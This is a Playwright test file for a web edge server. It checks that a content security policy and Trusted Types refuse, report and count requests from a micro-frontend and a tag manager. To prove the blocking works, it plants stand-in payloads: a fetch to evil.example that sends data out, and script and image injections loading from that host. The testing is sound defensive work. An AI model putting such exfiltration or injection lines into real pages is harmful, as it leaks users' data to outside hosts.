/// <reference lib="dom" />
import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { canaryRevision, promoteRevision } from '../../../delivery/src/store/channel.ts';
import { openDiskStore } from '../../../delivery/src/store/disk-store.ts';
import { type Edge, startEdge } from '../../edge.ts';
import { enter } from '../../enter.ts';
import { expect, test as base } from '../../fixtures.ts';
import { keep, otherBuild } from '../../other-build.ts';

/* What the content security policy refuses in a browser is reported to the edge, which counts whose it was. */

const VERSION = 'reaches-out';
const TITLE = '"Weekly auctions"';

interface WorkerFixtures {
  /** Beside a tag manager. It serves auctions in a version that asks somebody whom no list names. */
  edge: Edge;
}

const test = base.extend<object, WorkerFixtures>({
  edge: [
    async ({ product }, use) => {
      const dataDir = await mkdtemp(path.join(tmpdir(), 'le-chai-violations-'));
      const storeDir = path.join(dataDir, 'store');
      await cp(path.join(product.dataDir, 'store'), storeDir, { recursive: true });
      const own = { ...product, dataDir };
      const reaching = `(fetch("https://evil.example/what-was-read").catch(()=>0),${TITLE})`;
      await keep(own, await otherBuild(own, 'auctions', VERSION, [TITLE, reaching]));
      const store = openDiskStore(storeDir);
      const now = new Date().toISOString();
      for (const move of [
        (at: Channel) => canaryRevision(at, 'auctions', { version: VERSION, percent: 5 }, now),
        (at: Channel) => promoteRevision(at, 'auctions', now),
      ]) {
        await store.swapChannel('stable', move((await store.getChannel('stable'))!)!);
      }
      const edge = await startEdge(product, { STORE_DIR: storeDir, GOOGLE_TAG_MANAGER_ID: 'GTM-ABCDEF' });
      await use(edge);
      await edge.stop();
      await rm(dataDir, { recursive: true, force: true });
    },
    { scope: 'worker' },
  ],
});
type Channel = Parameters<typeof promoteRevision>[0];

test.use({ consent: 'all' });

/**
 * The browser as one that knows `report-uri` alone, as some are: the Chromium of the tests has no service that sends what goes by
 * `report-to`, and would leave the other out.
 */
test.beforeEach(({ context }) =>
  context.route('**/*', async (route) => {
    if (!route.request().isNavigationRequest()) return await route.fallback();
    const response = await route.fetch();
    const headers = response.headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy).toContain('report-to csp; report-uri /csp-reports');
    headers['content-security-policy'] = policy.replace('report-to csp; ', '');
    return await route.fulfill({ response, headers });
  }),
);

const counted = async (edge: Edge): Promise<string[]> =>
  (await edge.metrics()).split('\n').filter((line) => line.startsWith('edge_csp_violations_total{'));

/** A container of the tag manager: `tag` is what somebody wrote into it. Others are answered with nothing. */
async function withTag(page: Page, tag: string): Promise<string[]> {
  const asked: string[] = [];
  await page.context().route(
    ({ hostname }) => hostname !== 'localhost',
    (route) => {
      const { host, pathname } = new URL(route.request().url());
      asked.push(`${host}${pathname}`);
      return route.fulfill({ contentType: 'text/javascript', body: pathname === '/gtm.js' ? tag : '' });
    },
  );
  return asked;
}

test('a remote’s request to a host that is not listed is refused, reported, and counted for it', async ({
  page,
  edge,
}) => {
  const asked = await withTag(page, '');
  await enter(page, edge.url, 'collector@example.test');
  await page.goto(`${edge.url}/weekly/auctions/all`);
  await expect(page.getByRole('heading', { level: 1, name: 'Weekly auctions' })).toBeVisible();
  await expect
    .poll(() => counted(edge))
    .toContainEqual(expect.stringContaining(`{remote="auctions",version="${VERSION}",directive="connect-src"}`));
  expect(asked).not.toContain('evil.example/what-was-read');
});

/** What a tag does to load a script. */
const load = (address: string) =>
  `const s = document.createElement('script'); s.src = '${address}'; document.head.append(s);`;

test('a tag loads only what its manager may, with Trusted Types on', async ({ page, edge }) => {
  const asked = await withTag(
    page,
    `{ ${load('https://www.googletagmanager.com/allowed.js')} }
     try { ${load('https://evil.example/x.js')} } catch (error) { globalThis.refused = error.name; }
     try { document.body.innerHTML += '<img src="https://evil.example/x.png">'; } catch { globalThis.kept = true; }`,
  );
  await enter(page, edge.url, 'collector@example.test');
  await page.goto(`${edge.url}/my-profile/account-information`);
  await expect.poll(() => asked).toContain('www.googletagmanager.com/allowed.js');
  expect(await page.evaluate(() => [Reflect.get(globalThis, 'refused'), Reflect.get(globalThis, 'kept')])).toEqual([
    'TypeError',
    true,
  ]);
  await expect
    .poll(() => counted(edge))
    .toContainEqual(expect.stringContaining('{remote="other",version="",directive="require-trusted-types-for"}'));
  expect(asked.filter((each) => each.startsWith('evil.example'))).toEqual([]);
});
